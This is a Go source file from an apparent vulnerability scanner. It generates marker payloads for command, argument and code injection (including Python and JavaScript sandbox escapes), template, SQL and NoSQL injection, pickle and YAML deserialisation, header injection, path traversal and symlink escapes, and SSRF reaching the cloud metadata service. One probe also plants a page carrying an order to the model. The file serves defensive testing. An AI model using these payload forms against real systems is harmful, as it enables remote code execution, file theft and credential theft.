package proberun

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"path"
	"slices"
	"strconv"
	"strings"

	"gauntlet/internal/leaf/probe"
)

// A Mark identifies one attempt by random values that nothing else produces.
type Mark struct {
	Token string // 12 letters and digits
	Touch string // a file that does not exist, in a folder writable by anybody
	A, B  int64  // their product has at least nine digits
	C     int64  // subtracted from it, where the tool multiplies numbers in any text; else 0
}

// expression returns what a payload has the tool compute.
func (m *Mark) expression() string {
	if m.C == 0 {
		return fmt.Sprintf("%d*%d", m.A, m.B)
	}
	return fmt.Sprintf("%d*%d-%d", m.A, m.B, m.C)
}

// result returns the value of the expression.
func (m *Mark) result() int64 { return m.A*m.B - m.C }

// A Place holds the planted things that payloads lead to. An empty field means that there is none where the server runs.
type Place struct {
	Root      string // the project folder, declared as the server's root
	Outside   string // a file outside of Root with random content
	OutsideJS string // the same, a JSON document
	Sibling   string // a file in a folder whose name begins with Root's name
	Linked    string // a path below Root that leads outside through a symbolic link
	Folder    string // a folder in the start command, with a sibling and a link like Root; "" for none
	WriteDir  string // a folder outside Root, writable by anybody
	Port      int    // of the planted service on the loopback address
	Metadata  string // address of the planted metadata service, including its credentials path
	Private   string // host and port of the planted service in a private network
	Named     string // host and port of a public name that resolves to loopback
	Redirect  string // a public address without a path that redirects to the service
	ToCloud   string // one that redirects to the metadata service
}

// A Payload is one value to try, and what would prove that it worked.
type Payload struct {
	Variant string
	Value   any
	Text    string // Value as text, to remove it from answers
	Expect  []probe.Kind
	// Leads names the planted content the value leads to: "outside", "sibling", "symlink", "service", "metadata"; or "".
	Leads string
	// Whole is a whole statement with the same effect, for a tool that takes statements by design; "" if Value is one. Twin is the
	// control of all payloads.
	Whole string
	// Plant is a file that must exist first; nil for none.
	Plant *Planted
	// Escapes says that the value escapes a restriction on code, which is no tool's purpose.
	Escapes bool
}

// A variant is one form of a class's payloads. Its texts hold the names of values in braces, as in "{seed}; touch {touch} #": see
// [words]. Where the place lacks one of them there is no payload.
type variant struct {
	name    string
	value   string
	expect  []probe.Kind
	leads   string
	whole   string
	escapes bool
	encode  func(string) string            // of the whole value; nil for none
	plant   func(m *Mark, p *Place) []byte // content of the file that must exist at the value; nil for none
}

// like returns variants with the properties of one, by name and value.
func like(v variant, named ...[2]string) (out []variant) {
	for _, n := range named {
		v.name, v.value = n[0], n[1]
		out = append(out, v)
	}
	return out
}

// words returns the values of the names in variants.
func (p *Place) words(m *Mark, seed string) map[string]string {
	out := map[string]string{
		"{touch}": m.Touch, "{token}": m.Token, "{expression}": m.expression(), "{root}": p.Root, "{outside}": p.Outside, "{outside.json}": p.OutsideJS,
		"{sibling}": p.Sibling, "{linked}": p.Linked, "{folder}": p.Folder, "{drop}": p.WriteDir, "{metadata}": p.Metadata, "{private}": p.Private, "{named}": p.Named,
		"{redirect}": p.Redirect, "{to-cloud}": p.ToCloud, "{seed}": seed,
		"{relative-link}": strings.TrimPrefix(p.Linked, p.Root+"/"), "{relative}": strings.TrimPrefix(p.Outside, "/"), "{beside}": strings.TrimPrefix(p.Sibling, path.Dir(p.Root)), "{metadata-path}": strings.TrimPrefix(p.Metadata, "http://"+metadataHost),
		"{port}": "", "{folder-name}": "",
	}
	if p.Port != 0 {
		out["{port}"] = strconv.Itoa(p.Port)
	}
	if p.Folder != "" {
		out["{folder-name}"] = path.Base(p.Folder)
	}
	return out
}

// Payloads returns the number of a target's payloads.
func (t *Target) Payloads() int { return len(t.variants) }

// Payload returns a target's n-th payload; ok is false if the place lacks what it needs.
func (t *Target) Payload(n int, m Mark, p Place, seed string) (made Payload, ok bool) {
	v, ok := &t.variants[n], true
	var pairs []string
	for name, value := range p.words(&m, seed) {
		ok = ok && (value != "" || name == "{seed}" || !strings.Contains(v.value, name))
		pairs = append(pairs, name, value)
	}
	fill := strings.NewReplacer(pairs...)
	made = Payload{Variant: v.name, Expect: v.expect, Leads: v.leads, Whole: fill.Replace(v.whole), Escapes: v.escapes}
	value := fill.Replace(v.value)
	if v.encode != nil {
		value = v.encode(value)
	}
	if v.plant != nil {
		made.Plant = &Planted{value, v.plant(&m, &p)}
	}
	made.set(value)
	return made, ok
}

// set replaces a payload's value.
func (p *Payload) set(value any) {
	p.Value = value
	p.Text, _ = value.(string)
}

// What shows that payloads worked.
var (
	fileAppears     = []probe.Kind{probe.File}
	productAppears  = []probe.Kind{probe.Product}
	contentAppears  = []probe.Kind{probe.Content}
	serviceIsCalled = []probe.Kind{probe.Callback}
	serviceIsRead   = []probe.Kind{probe.Content, probe.Callback}
)

// commandVariants are ways to add a command, most widely effective first.
var commandVariants = like(variant{expect: fileAppears, whole: "touch {touch}"},
	[2]string{"command substitution", "{seed}$(touch {touch})"},
	[2]string{"after a semicolon", "{seed}; touch {touch} #"},
	[2]string{"out of double quotes", `{seed}"; touch {touch} #`},
	[2]string{"out of single quotes", `{seed}'; touch {touch} #`},
	[2]string{"backquotes", "{seed}`touch {touch}`"},
	// A tool may offer pipes of allowed programs, possibly touch; only a shell performs the redirection.
	[2]string{"after a pipe", "{seed}|: >{touch}"},
	[2]string{"after a line break", "{seed}\ntouch {touch}\n"},
	[2]string{"without spaces", "{seed}$(touch${IFS}{touch})"},
	[2]string{"after &&", "{seed} && touch {touch}"},
)

// pipelineVariants keep the beginning and end of a checked command line.
var pipelineVariants = like(variant{expect: fileAppears, whole: "touch {touch}"},
	[2]string{"substitution in a pipeline", "{seed} | cat $(touch {touch})"},
	[2]string{"after a pipeline", "{seed} | cat; touch {touch}"},
)

// argumentVariants are values that a program reads as an option.
var argumentVariants = []variant{
	{name: "an option behind a space", value: "{seed} --gauntlet-{token}=1", expect: []probe.Kind{probe.Program}},
	{name: "ssh's ProxyCommand", value: "-oProxyCommand=touch {touch}", expect: []probe.Kind{probe.File, probe.Program}},
	{name: "an option instead of a name", value: "--gauntlet-{token}=1", expect: []probe.Kind{probe.Program}},
	{name: "git's --output", value: "--output={touch}", expect: []probe.Kind{probe.File, probe.Program}},
	{name: "git's upload-pack", value: "--upload-pack=touch {touch}", expect: []probe.Kind{probe.File, probe.Program}},
}

// jsRun makes Node run a command, from a script or a module.
const jsRun = "(process.mainModule?process.mainModule.require('child_process'):process.getBuiltinModule('child_process')).execSync('touch {touch}')"

var codeVariants = slices.Concat(
	like(variant{expect: fileAppears},
		[2]string{"Python", "__import__('os').system('touch {touch}')"},
		[2]string{"JavaScript", "require('child_process').execSync('touch {touch}')"},
		[2]string{"JavaScript without require", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch {touch}')"},
	),
	// Code that works without what a tool removed from the environment of code.
	like(variant{expect: fileAppears, escapes: true},
		[2]string{"Python without builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch {touch}')"},
		[2]string{"out of a JavaScript string", "');require('child_process').execSync('touch {touch}');//"},
		[2]string{"out of a Python string", "'+str(__import__('os').system('touch {touch}'))+'"},
	))

var templateVariants = []variant{
	{name: "five template languages", value: "{seed}{{{expression}}}${{expression}}<%= {expression} %>#{{expression}}{%={expression}%}", expect: productAppears},
	{name: "double braces alone", value: "{{{expression}}}", expect: productAppears},
	{name: "code in two template languages", value: "{{cycler.__init__.__globals__.os.popen('touch {touch}').read()}}<%= " + jsRun + " %>", expect: fileAppears, escapes: true},
}

var sqlVariants = like(variant{expect: productAppears, whole: "SELECT {expression}"},
	[2]string{"a query in the place of a name", "(SELECT {expression} AS a)"},
	[2]string{"UNION behind a quotation mark", "{seed}' UNION SELECT {expression}-- "},
	[2]string{"UNION behind a name", "{seed} UNION SELECT {expression} -- "},
	[2]string{"UNION with two columns", "{seed}' UNION SELECT {expression},{expression}-- "},
	[2]string{"UNION with three columns", "{seed}' UNION SELECT {expression},{expression},{expression}-- "},
	[2]string{"UNION with four columns", "{seed}' UNION SELECT {expression},{expression},{expression},{expression}-- "},
	[2]string{"a sum in a string", "{seed}'||({expression})||'"},
)

var noSQLVariants = []variant{{name: "code in a condition", value: "{seed}'; return {expression}; //", expect: productAppears, whole: "{expression}"}}

var deserialisationVariants = []variant{
	{name: "Python object in YAML", value: `!!python/object/apply:os.system ["touch {touch}"]`, expect: fileAppears},
	{name: "Python pickle in base64", value: "cos\nsystem\n(S'touch {touch}'\ntR.", expect: fileAppears, encode: func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
	{name: "function in YAML of JavaScript", value: `toString: !!js/function "function(){return ` + jsRun + "}\"\n", expect: fileAppears},
	{name: "function in node-serialize", value: `{"a":"_$$ND_FUNC$$_function(){require('child_process').execSync('touch {touch}')}()"}`, expect: fileAppears},
}

var crlfVariants = []variant{
	{name: "a header behind a line break", value: "http://127.0.0.1:{port}/{token}c\r\nX-Gauntlet-{token}: 1", expect: serviceIsCalled, leads: "header"},
}

// lineVariants add a header field to a request or a mail.
var lineVariants = like(variant{expect: serviceIsCalled, leads: "header", whole: "X-Gauntlet-{token}: 1"},
	[2]string{"a header behind a line break in a text", "{seed}\r\nX-Gauntlet-{token}: 1"},
	[2]string{"a header behind a line feed in a text", "{seed}\nX-Gauntlet-{token}: 1"},
)

const climb = "../../../../../../../../../../../.."

var traversalVariants = []variant{
	{name: "absolute path", value: "{outside}", expect: contentAppears, leads: "outside"},
	{name: "../", value: climb + "{outside}", expect: contentAppears, leads: "outside"},
	{name: "absolute path, written", value: "{drop}/{token}.json", expect: fileAppears},
	{name: "../, written", value: climb + "{drop}/{token}", expect: fileAppears},
	{name: "absolute path of a JSON document", value: "{outside.json}", expect: contentAppears, leads: "outside"},
	{name: "from the project folder with ../", value: "{root}/" + climb + "{outside}", expect: contentAppears, leads: "outside"},
	{name: "encoded ../", value: strings.Repeat("..%2f", 12) + "{relative}", expect: contentAppears, leads: "outside"},
	{name: "file:// address", value: "file://{outside}", expect: contentAppears, leads: "outside"},
	{name: "encoded as a whole", value: climb + "{outside}", expect: contentAppears, leads: "outside", encode: func(s string) string { return strings.ReplaceAll(url.PathEscape(s), ".", "%2e") }},
	{name: "file:// address with ../", value: "file://{root}/" + climb + "{outside}", expect: contentAppears, leads: "outside"},
	{name: "....//", value: strings.Repeat("....//", 12) + "{relative}", expect: contentAppears, leads: "outside"},
	{name: "behind a NUL", value: "{outside}\x00.txt", expect: contentAppears, leads: "outside"},
}

var symlinkVariants = like(variant{expect: contentAppears, leads: "symlink"},
	[2]string{"a link in the project folder", "{linked}"},
	[2]string{"a link in a folder that the command names", "{folder}/shortcut/linked.txt"},
	[2]string{"a link, relative", "{relative-link}"},
)

var prefixVariants = like(variant{expect: contentAppears, leads: "sibling"},
	[2]string{"a folder whose name begins with the project's", "{sibling}"},
	[2]string{"the same by ../", "{root}/..{beside}"},
	[2]string{"a folder whose name begins with that of one that the command names", "{folder}-private/canary.txt"},
	[2]string{"the same by ../ alone", "../{folder-name}-private/canary.txt"},
)

// ssrfVariants are addresses of the planted service, and other ways to it.
var ssrfVariants = slices.Concat(
	like(variant{expect: serviceIsRead, leads: "service"},
		[2]string{"127.0.0.1", "http://127.0.0.1:{port}/{token}"},
		[2]string{"IPv4 in IPv6", "http://[::ffff:7f00:1]:{port}/{token}"},
		[2]string{"localhost", "http://localhost:{port}/{token}"},
		[2]string{"a redirect", "{redirect}/{token}"},
	),
	[]variant{{name: "file://", value: "file://{outside}", expect: contentAppears, leads: "outside"}},
	like(variant{expect: serviceIsRead, leads: "service"},
		[2]string{"a private address", "http://{private}/{token}"},
		[2]string{"a name that leads to the loopback address", "http://{named}/{token}"},
		[2]string{"one number", "http://2130706433:{port}/{token}"},
		[2]string{"0.0.0.0", "http://0.0.0.0:{port}/{token}"},
		[2]string{"behind a user name", "http://example.com@127.0.0.1:{port}/{token}"},
		[2]string{"short form", "http://127.1:{port}/{token}"},
	))

var hostVariants = []variant{
	{name: "127.0.0.1 with a port", value: "127.0.0.1:{port}", expect: serviceIsCalled, leads: "service"},
	{name: "address with a path", value: "127.0.0.1:{port}/{token}", expect: serviceIsRead, leads: "service"},
}

const metadataHost = "169.254.169.254"

var metadataVariants = like(variant{expect: contentAppears, leads: "metadata"},
	[2]string{metadataHost, "{metadata}"},
	[2]string{metadataHost + " in IPv6", "http://[::ffff:a9fe:a9fe]{metadata-path}"},
	[2]string{"a redirect", "{to-cloud}{metadata-path}"},
	[2]string{metadataHost + " as a number", "http://2852039166{metadata-path}"},
)

var requestPathVariants = like(variant{expect: serviceIsCalled, leads: "parent"}, [2]string{"../", "../{token}"}, [2]string{"encoded ../", "..%2F{token}"})

var passthroughVariants = []variant{
	{name: "a page with an order to the model", value: "http://127.0.0.1:{port}/page/{token}", expect: contentAppears, leads: "page"},
}
